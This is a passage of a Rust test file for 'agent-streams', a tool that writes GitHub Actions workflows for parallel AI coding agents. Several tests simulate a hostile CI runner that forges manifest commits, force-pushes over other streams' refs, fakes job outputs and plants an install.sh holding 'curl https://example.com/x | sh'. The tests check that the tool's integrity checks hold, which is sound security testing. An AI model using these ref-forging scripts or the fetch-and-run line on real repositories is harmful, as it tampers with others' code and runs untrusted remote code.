        Some(r) if r.ok => "success",
        Some(_) => "failure",
    };
    let outcomes: Vec<(&str, &str)> = workflow
        .order
        .iter()
        .map(|id| (id.as_str(), outcome(id)))
        .collect();
    assert_eq!(
        outcomes,
        [
            ("plan", "success"),
            ("stream-db", "success"),
            ("stream-assets", "failure"),
            ("integrate-0", "failure"),
            ("stream-api", "skipped"),
            ("stream-ui", "skipped"),
            ("integrate-1", "skipped"),
            ("stream-docs", "skipped"),
            ("integrate-2", "skipped"),
        ],
        "{}",
        logs(&results)
    );
    // The integrate job ran, integrated `db` and said what became of `assets`.
    let integrate = results["integrate-0"].as_ref().unwrap();
    assert!(
        integrate.log.contains("exit status: 4"),
        "{}",
        integrate.log
    );
    assert!(integrate.log.contains("assets"), "{}", integrate.log);
    let tree = repo.git(&[
        "--git-dir",
        remote.to_str().unwrap(),
        "ls-tree",
        "-r",
        "--name-only",
        "refs/heads/streams/web/integration",
    ]);
    assert!(tree.lines().any(|f| f == "src/db/schema.sql"), "{tree}");
}

#[test]
fn a_plan_without_jobs_or_with_an_agent_streams_cannot_install_is_written_with_a_warning() {
    let repo = TestRepo::with_files(&[("a/x", "x\n"), ("b/x", "x\n")]);
    repo.write(
        "streams.toml",
        r#"
[plan]
name = "p"
agent = ["act", "write", "{stream}/y", "y"]

[[stream]]
name = "a"
owns = ["a/**"]
tasks = ["x"]

[[stream]]
name = "b"
owns = ["b/**"]
tasks = ["x"]
"#,
    );
    // An install command of its own: the one it would choose is said elsewhere.
    let install = ["--install", "cargo install --locked agent-streams"];
    let out = repo.streams(&[&["ci", "github"][..], &install].concat());
    out.assert_code(0);
    insta::assert_snapshot!(out.stderr_redacted());
    let workflow = yaml(&out.stdout);
    // No lanes: every stream job of a stage starts at once.
    for stream in ["a", "b"] {
        let job = &workflow["jobs"][&format!("stream-{stream}")];
        assert_eq!(job["needs"], serde_json::json!(["plan"]), "{stream}");
    }
    // With --setup the warning about installing goes; the one about `jobs` stays.
    let out = repo.streams(
        &[
            &["ci", "github", "--setup", "npm install --global act"][..],
            &install,
        ]
        .concat(),
    );
    out.assert_code(0);
    assert!(!out.stderr.contains("--setup"), "{out}");
    assert!(out.stderr.contains("sets no `jobs`"), "{out}");
}

/// The gate runs the streams' code in the integrate jobs, the one place where a stream's code
/// runs beside another job's outputs: `ci github` says so (the trust model has this limit).
#[test]
fn a_plan_with_a_gate_is_written_with_a_warning_about_where_it_runs() {
    let repo = TestRepo::with_files(&[("a/x", "x\n")]);
    let plan = |gate: &str| {
        format!(
            r#"
[plan]
name = "p"
agent = ["act", "write", "{{stream}}/y", "y"]
jobs = 1
{gate}

[[stream]]
name = "a"
owns = ["a/**"]
tasks = ["x"]
"#
        )
    };
    let args = [
        "ci",
        "github",
        "--setup",
        "true",
        "--install",
        "cargo install --locked agent-streams",
    ];
    repo.write("streams.toml", &plan(""));
    let out = repo.streams(&args);
    out.assert_code(0);
    assert_eq!(out.stderr, "", "no gate, nothing to say");

    repo.write("streams.toml", &plan(r#"gate = ["sh", "-c", "true"]"#));
    let out = repo.streams(&args);
    out.assert_code(0);
    assert_eq!(
        out.stderr,
        "warning: the plan's gate runs the streams' work inside each integrate job, where that \
         code could set the job's output `tip` the next stage starts from: trust a stage's \
         result only as far as you trust its streams' code (README: \"Trust model\")\n"
    );
}

/// The agents run on the runners, which install them: writing the workflow on a machine without
/// `claude` must work (it failed with "agent program `claude` was not found on PATH"). A program
/// committed in the repository is still checked: every runner checks out the same files.
#[test]
fn the_workflow_is_written_where_the_agents_are_not_installed() {
    let repo = TestRepo::with_files(FILES);
    repo.streams(&["init", "--example", "webapp"])
        .assert_code(0);
    repo.commit_all("the plan");
    assert_eq!(
        std::process::Command::new("sh")
            .args(["-c", "command -v claude"])
            .output()
            .unwrap()
            .stdout,
        b"",
        "this test needs a machine without claude"
    );
    let out = repo.streams(&["ci", "github"]);
    out.assert_code(0);
    assert!(out.stdout.contains("integrate-0"), "{out}");
    repo.streams(&["plan"]).assert_code(2);

    let plan = repo
        .read("streams.toml")
        .replace("agent = \"claude\"", "agent = [\"scripts/missing.sh\"]");
    repo.write("streams.toml", &plan);
    let out = repo.streams(&["ci", "github"]);
    out.assert_code(2);
    assert!(out.stderr.contains("scripts/missing.sh"), "{out}");
}

// ---------------------------------------------------------------------------------------------
// One hostile job among them. Every job holds the same push credential; a runner (its agent,
// or whatever took it over) can push any ref and set its own job's outputs. What it must not
// be able to do is put anything on the integration branch that the plan does not let its own
// stream write, or have the integration say "ok" over something else.

/// Bash that writes the manifest JSON on stdin as a manifest commit (as streams stores them)
/// and prints the commit's id.
const FORGE_MANIFEST: &str = r#"
forge_manifest() {
  local file blob tree
  file=$(mktemp)
  cat > "$file"
  blob=$(git hash-object -w "$file")
  tree=$(printf '100644 blob %s\tmanifest.json\n' "$blob" | git mktree)
  git commit-tree "$tree" -m "streams: manifest"
}
"#;

/// The file `path` on the remote's integration branch of the plan `web`.
fn remote_file(repo: &TestRepo, remote: &Path, path: &str) -> String {
    repo.git(&[
        "--git-dir",
        remote.to_str().unwrap(),
        "show",
        &format!("refs/heads/streams/web/integration:{path}"),
    ])
}

/// Finding 1 of issue 24: the runner of `assets` takes over `db`'s work once `db` pushed it:
/// `db`'s branch and manifest on the remote now name a commit of its own, in `db`'s lane.
#[test]
fn a_stream_job_cannot_replace_another_streams_work() {
    if !have_jq() {
        return;
    }
    let (repo, remote, workflow) = spread_repo();
    let script = format!(
        r#"{FORGE_MANIFEST}
m=refs/streams/web/manifests/$RUN_ID/db
git fetch -q origin "+$m:refs/forge/manifest"
tip=$(git show refs/forge/manifest:manifest.json | jq -r .tip)
git fetch -q origin "$tip"
git checkout -q --detach "$tip"
echo 'drop table users;' > src/db/schema.sql
git commit -q -am "db: taken over by assets' runner"
evil=$(git rev-parse HEAD)
forged=$(git show refs/forge/manifest:manifest.json \
  | jq --arg t "$evil" '.tip = $t | .tasks[-1].state.end = $t' | forge_manifest)
git push -q origin "+$forged:$m" "+$evil:refs/streams/web/work/$RUN_ID/branch/db" \
  "+$evil:refs/heads/streams/web/db"
"#
    );
    let hostile = Hostile {
        stream: "assets",
        script: &script,
    };
    let results = run_workflow(&workflow, &remote, "7101", Some(&hostile));
    assert_eq!(
        remote_file(&repo, &remote, "src/db/schema.sql"),
        "create table users (id int);",
        "{}",
        logs(&results)
    );
    for (id, result) in &results {
        assert_eq!(result_of(result), "success", "{id}:\n{}", logs(&results));
    }
}

/// The other half of finding 1: what a job can set, its own outputs. The runner of `assets`
/// reports `db`'s manifest as its own job's output (as a matrix entry could have, for another
/// entry's stream). `db`'s work is integrated once, as `db`'s; `assets` is refused, saying why.
#[test]
fn a_stream_job_cannot_report_another_streams_work_as_its_own() {
    if !have_jq() {
        return;
    }
    let (repo, remote, workflow) = spread_repo();
    let script = r#"
echo "manifest=$(git ls-remote origin "refs/streams/web/manifests/$RUN_ID/db" | cut -f1)" >> "$GITHUB_OUTPUT"
"#;
    let hostile = Hostile {
        stream: "assets",
        script,
    };
    let results = run_workflow(&workflow, &remote, "7105", Some(&hostile));
    let assets = results["stream-assets"]
        .as_ref()
        .expect("stream-assets ran");
    let db = results["stream-db"].as_ref().expect("stream-db ran");
    assert_eq!(
        assets.outputs["manifest"],
        db.outputs["manifest"],
        "the hostile job reported db's manifest: {}",
        logs(&results)
    );
    let integrate = results["integrate-0"].as_ref().expect("integrate-0 ran");
    assert!(!integrate.ok, "{}", logs(&results));
    assert!(
        integrate.log.contains("its manifest is for stream `db`"),
        "{}",
        integrate.log
    );
    assert_eq!(result_of(&results["stream-api"]), "skipped");
    let tree = repo.git(&[
        "--git-dir",
        remote.to_str().unwrap(),
        "ls-tree",
        "-r",
        "--name-only",
        "refs/heads/streams/web/integration",
    ]);
    assert_eq!(
        tree.lines().collect::<Vec<_>>(),
        [
            ".github/workflows/streams.yml",
            "README.md",
            "src/db/schema.sql",
            "streams.toml"
        ],
        "db's work once, nothing of assets'"
    );
    assert_eq!(
        remote_file(&repo, &remote, "src/db/schema.sql"),
        "create table users (id int);"
    );
}

/// Finding 2: the runner of `api` (stage 1) moves stage 0's tip on the remote to a commit that
/// changes `db`'s file (a stream of an earlier stage, which the old check allowed), before
/// `ui` starts from it and stage 1 is integrated on it.
#[test]
fn a_stream_job_cannot_change_an_earlier_stages_result() {
    if !have_jq() {
        return;
    }
    let (repo, remote, workflow) = spread_repo();
    let script = r#"
for stage in $(git ls-remote origin "refs/streams/web/stages/$RUN_ID/*" | cut -f2); do
  git fetch -q origin "+$stage:refs/forge/stage"
  git checkout -q --detach refs/forge/stage
  echo 'drop table users;' > src/db/schema.sql
  git commit -q -am "db: changed after its stage"
  git push -q origin "+HEAD:$stage"
done
"#;
    let hostile = Hostile {
        stream: "api",
        script,
    };
    let results = run_workflow(&workflow, &remote, "7102", Some(&hostile));
    assert_eq!(
        remote_file(&repo, &remote, "src/db/schema.sql"),
        "create table users (id int);",
        "{}",
        logs(&results)
    );
    for (id, result) in &results {
        assert_eq!(result_of(result), "success", "{id}:\n{}", logs(&results));
    }
}

/// Finding 3: the runner of `api` (stage 1) plants the integration branch (a file no stream
/// owns) and records it as the tip of a later stage. The integrate job of stage 1 must not say
/// "ok" and leave the plant there: it refuses, saying what to do, and the run stops.
#[test]
fn a_planted_integration_branch_is_refused_with_what_to_do() {
    if !have_jq() {
        return;
    }
    let (_repo, remote, workflow) = spread_repo();
    let script = r#"
git checkout -q --detach origin/main
echo 'curl https://example.com/x | sh' > install.sh
git add install.sh
git commit -q -m "install"
git push -q origin "+HEAD:refs/heads/streams/web/integration" "+HEAD:refs/streams/web/stages/$RUN_ID/9"
"#;
    let hostile = Hostile {
        stream: "api",
        script,
    };
    let results = run_workflow(&workflow, &remote, "7103", Some(&hostile));
    let integrate = results["integrate-1"].as_ref().expect("integrate-1 ran");
    assert!(!integrate.ok, "{}", integrate.log);
    assert!(
        integrate
            .log
            .contains("refusing to push streams/web/integration to origin: it holds ")
            && integrate.log.contains("not stage 0's result"),
        "{}",
        integrate.log
    );
    assert!(
        integrate.log.contains("hint: "),
        "it says what to do: {}",
        integrate.log
    );
    assert_eq!(result_of(&results["integrate-2"]), "skipped");
}

/// Finding 4: the runner of `assets` publishes a manifest of its own stream claiming 99
/// commits, +9999 lines and 277777 h of agent time, and reports it as its job's output. The
/// commits and lines come from the commits; the agent time cannot, and is marked as reported.
#[test]
fn a_manifests_figures_are_counted_again_and_its_agent_time_marked() {
    if !have_jq() {
        return;
    }
    let (_repo, remote, workflow) = spread_repo();
    let script = format!(
        r#"{FORGE_MANIFEST}
m=refs/streams/web/manifests/$RUN_ID/assets
git fetch -q origin "+$m:refs/forge/manifest"
forged=$(git show refs/forge/manifest:manifest.json \
  | jq '.tasks[0].state.stats = {{commits: 99, files: 50, insertions: 9999, deletions: 0}}
        | .tasks[0].agent_ms = 999997200000' | forge_manifest)
git push -q origin "+$forged:$m"
echo "manifest=$forged" >> "$GITHUB_OUTPUT"
"#
    );
    let hostile = Hostile {
        stream: "assets",
        script: &script,
    };
    let results = run_workflow(&workflow, &remote, "7104", Some(&hostile));
    let integrate = results["integrate-0"].as_ref().expect("integrate-0 ran");
    assert!(integrate.ok, "{}", logs(&results));
    let runner = &integrate.runners[0];
    let report: Value =
        serde_json::from_str(&runner.read(".git/streams/runs/7104-1-stage0/report.json")).unwrap();
    let assets = report["streams"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["name"] == "assets")
        .unwrap();
    assert_eq!(assets["commits"], 1, "{assets:#}");
    assert_eq!(assets["files"], 1, "{assets:#}");
    assert_eq!(assets["insertions"], 1, "{assets:#}");
    assert_eq!(
        assets["time_ms"], 999997200000u64,
        "as reported: {assets:#}"
    );
    assert!(
        assets["notes"].as_array().unwrap().iter().any(|n| n
            .as_str()
            .unwrap()
            .contains("agent time as its job reported it")),
        "{assets:#}"
    );
}

// ---------------------------------------------------------------------------------------------
// What the runners install, and what they will not have.

/// A copy of the binary under test installed as `cargo install` would have, with its record of
/// where it came from (`source`, as cargo writes it).
fn installed_streams(dir: &Path, source: &str) -> PathBuf {
    let bin = dir.join("bin");
    std::fs::create_dir_all(&bin).unwrap();
    let exe = bin.join("streams");
    if std::fs::hard_link(streams_bin(), &exe).is_err() {
        std::fs::copy(streams_bin(), &exe).unwrap();
    }
    let record = serde_json::json!({
        "installs": {
            format!("agent-streams {} ({source})", env!("CARGO_PKG_VERSION")): {
                "version_req": null,
                "bins": ["streams"],
                "features": [],
                "all_features": false,
                "no_default_features": false,
                "profile": "release",
                "target": "x86_64-unknown-linux-gnu",
                "rustc": "rustc 1.90.0"
            }
        }
    });
    std::fs::write(dir.join(".crates2.json"), record.to_string()).unwrap();
    exe
}

/// Issue 27, item 4: the workflow installs what exists. A streams installed from a git
/// repository installs that commit of it on the runners; one from crates.io, that release (as
/// `agent-streams`: `streams` on crates.io is an unrelated crate); one from a local path, the
/// release, with a warning saying so.
#[test]
fn the_workflow_installs_what_cargo_installed_here() {
    let repo = example_repo("webapp");
    let sha = "0123456789abcdef0123456789abcdef01234567";
    let cases = [
        (
            format!("git+https://example.com/o/streams?branch=main#{sha}"),
            format!(
                "cargo install --locked --git https://example.com/o/streams --rev {sha} agent-streams"
            ),
            false,
        ),
        (
            "registry+https://github.com/rust-lang/crates.io-index".to_string(),
            format!(
                "cargo install --locked agent-streams@{}",
                env!("CARGO_PKG_VERSION")
            ),
            false,
        ),
        (
            "path+file:///home/me/streams".to_string(),
            format!(
                "cargo install --locked agent-streams@{}",
                env!("CARGO_PKG_VERSION")
            ),
            true,
        ),
    ];
    for (n, (source, install, warned)) in cases.into_iter().enumerate() {
        let root = repo.home.join(format!("cargo-{n}"));
        let exe = installed_streams(&root, &source);
        let mut cmd = Command::new(&exe);
        cmd.args(["ci", "github"]).current_dir(&repo.root);
        repo.hermetic(&mut cmd);
        for (k, v) in &repo.env {
            cmd.env(k, v);
        }
        let out = cmd.output().unwrap();
        let (stdout, stderr) = (
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr),
        );
        assert!(out.status.success(), "{stderr}");
        let workflow = yaml(&stdout);
        let step = workflow["jobs"]["plan"]["steps"]
            .as_array()
            .unwrap()
            .iter()
            .find(|s| s["name"] == "Install streams")
            .unwrap()
            .clone();
        assert_eq!(step["run"], format!("{install}\n"), "{source}");
        assert!(!stdout.contains("install --locked streams@"), "{stdout}");
        assert_eq!(
            stderr.contains("/home/me/streams, which runners do not have"),
            warned,
            "{source}: {stderr}"
        );
    }
}

/// Issue 27, item 4: `ci github` says when the plan's agent is a file no runner will have: a
/// script outside the repository, one inside it that is not committed, or an absolute path
/// into this checkout.
#[test]
fn an_agent_file_no_runner_will_have_is_said() {
    let repo = TestRepo::with_files(&[("a/x", "x\n"), ("b/x", "x\n"), ("c/x", "x\n")]);
    let outside = repo.home.join("my-agent.sh");
    std::fs::write(&outside, "#!/bin/sh\n").unwrap();
    repo.write("scripts/local.sh", "#!/bin/sh\n");
    repo.write("scripts/committed.sh", "#!/bin/sh\n");
    repo.git(&["add", "scripts/committed.sh"]);
    repo.git(&["commit", "-q", "-m", "a committed script"]);
    let inside = repo.path("scripts/committed.sh");
    repo.write(
        "streams.toml",
        &format!(
            r#"
[plan]
name = "p"
jobs = 1
agent = ["sh", "{outside}", "{{prompt}}"]

[[stream]]
name = "a"
owns = ["a/**"]
tasks = ["x"]

[[stream]]
name = "b"
owns = ["b/**"]
agent = ["sh", "scripts/local.sh", "scripts/committed.sh"]
tasks = ["x"]

[[stream]]
name = "c"
owns = ["c/**"]
agent = ["sh", "{inside}"]
tasks = ["x"]
"#,
            outside = outside.display(),
            inside = inside.display(),
        ),
    );
    let out = repo.streams(&["ci", "github", "--install", "true"]);
    out.assert_code(0);
    let said: Vec<&str> = out
        .stderr
        .lines()
        .filter(|l| l.contains("the agent of stream"))
        .collect();
    assert_eq!(
        said,
        [
            format!(
                "warning: the agent of stream `a` names {}, which is outside the repository: no runner has it unless --setup puts it there (or commit it, named relative to the repository)",
                outside.display()
            ),
            format!(
                "warning: the agent of stream `b` names scripts/local.sh, which is not committed at the plan's base ({}): runners check out the repository only; commit it",
                &repo.git(&["rev-parse", "HEAD"])[..10]
            ),
            format!(
                "warning: the agent of stream `c` names {}, an absolute path into this checkout, which runners check out elsewhere: name it relative to the repository (scripts/committed.sh)",
                inside.display()
            ),
        ],
        "{out}"
    );
}
